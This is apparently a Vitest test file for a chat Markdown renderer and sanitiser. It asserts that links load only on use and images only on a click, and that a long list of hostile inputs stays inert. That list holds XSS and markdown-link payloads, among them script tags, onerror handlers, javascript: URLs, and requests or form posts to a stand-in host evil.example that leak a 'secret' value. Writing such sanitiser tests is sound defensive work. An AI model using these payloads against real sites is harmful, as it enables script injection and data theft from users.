import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { image } from "./controls";
import { MarkdownView } from "./markdown-view";
import { sanitize } from "./sanitize";

const NO_FORMULAS = { set: () => {} };
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=https://evil.example></iframe>",
  '<a href="javascript:alert(1)">x</a>',
  "<style>*{display:none}</style>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<form action=https://evil.example><input name=q></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<video poster=https://evil.example/p.png autoplay></video>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/path)",
  '[x](https://evil.example "title\\" onmouseover=alert(1)")',
  "![x](https://evil.example/p.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![" onerror="alert(1)](https://evil.example/p.png)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<details open ontoggle=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<https://evil.example/?q=<script>>",
  "https://evil.example/auto?q=secret",
  "[ref]\n\n[ref]: javascript:alert(1)",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];
const LOADERS =
  "img, script, iframe, object, embed, video, audio, source, link, style, form, input, svg:not(.dnb-icon)";

function shown(text: string, isFinished = true): HTMLElement {
  const view = new MarkdownView(NO_FORMULAS);
  view.update(text, isFinished);
  document.body.append(view.element);
  return view.element;
}

beforeEach(() => vi.stubGlobal("alert", vi.fn()));
afterEach(() => {
  document.body.replaceChildren();
  vi.unstubAllGlobals();
});

describe("hostile text", () => {
  it.each(PAYLOADS)("neither runs nor loads anything: %j", (payload) => {
    for (const isFinished of [false, true]) {
      const element = shown(`before ${payload}`, isFinished);
      const alone = shown(payload, isFinished);
      for (const node of [...element.querySelectorAll("*"), ...alone.querySelectorAll("*")]) {
        const names = node.getAttributeNames();
        expect(
          names.filter((name) => /^(on|style|src|href|id|name|formaction)/.test(name)),
        ).toEqual([]);
      }
      expect(element.querySelector(LOADERS) ?? alone.querySelector(LOADERS)).toBeNull();
    }
    expect(alert).not.toHaveBeenCalled();
  });

  it.each(PAYLOADS)("cannot pass the sanitiser as raw HTML: %j", (payload) => {
    const holder = document.createElement("div");
    holder.append(sanitize(payload));
    for (const node of holder.querySelectorAll("*")) {
      expect(
        node.getAttributeNames().filter((name) => /^(on|style|src|href|id)/.test(name)),
      ).toEqual([]);
    }
    expect(holder.querySelector(LOADERS)).toBeNull();
  });

  it("cannot take on the classes of the host or of the chat's own controls", () => {
    const holder = document.createElement("div");
    holder.append(
      sanitize('<p class="jp-Button dnb-send dnb-right">x</p><pre class="lm-Menu">y</pre>'),
    );
    expect(holder.innerHTML).toBe('<p class="dnb-right">x</p><pre>y</pre>');
  });
});

describe("links", () => {
  it("have no address before they are used, and then a safe one", () => {
    const link = shown("[docs](https://example.org/x)").querySelector("a") as HTMLAnchorElement;
    expect(link.hasAttribute("href")).toBe(false);
    expect(link).toMatchObject({ title: "https://example.org/x", target: "_blank", tabIndex: 0 });
    expect(link.rel).toBe("noopener noreferrer");
    link.addEventListener("click", (event) => event.preventDefault());
    link.dispatchEvent(new KeyboardEvent("keydown", { key: "Enter" }));
    expect(link.href).toBe("https://example.org/x");
  });

  it("whose text names another host show the true one", () => {
    const text =
      "[https://bank.example/login](https://evil.example/) and [bank.example](https://bank.example/)";
    expect(shown(text).textContent?.trim()).toBe(
      "https://bank.example/login (evil.example) and bank.example",
    );
  });

  it.each(["javascript:alert(1)", "data:text/html,x", "file:///x", "/relative", "vbscript:x"])(
    "to %s are plain text",
    (address) => {
      const link = shown(`[x](${address})`).querySelector("a");
      expect(link?.hasAttribute("title") ?? false).toBe(false);
      expect(link?.hasAttribute("role") ?? false).toBe(false);
    },
  );
});

describe("images", () => {
  it("name their host and load on a click only", () => {
    const element = shown("![a chart](https://pictures.example:8443/c.png)");
    const button = element.querySelector("button") as HTMLButtonElement;
    expect(button.textContent).toBe("Image “a chart”: load from pictures.example:8443");
    expect(element.querySelector("img")).toBeNull();
    button.click();
    expect(element.querySelector("img")).toMatchObject({
      src: "https://pictures.example:8443/c.png",
      alt: "a chart",
      referrerPolicy: "no-referrer",
    });
  });

  it("that the text itself contains are shown at once", () => {
    const source = "data:image/png;base64,iVBORw0KGgo=";
    expect(shown(`![dot](${source})`).querySelector("img")?.src).toBe(source);
  });

  it.each(["/etc/passwd", "javascript:alert(1)", "data:image/svg+xml;base64,AAAA", "mailto:a@b.c"])(
    "from %s are words only",
    (source) => expect(image(source, "x").textContent).toBe("[image: x]"),
  );
});
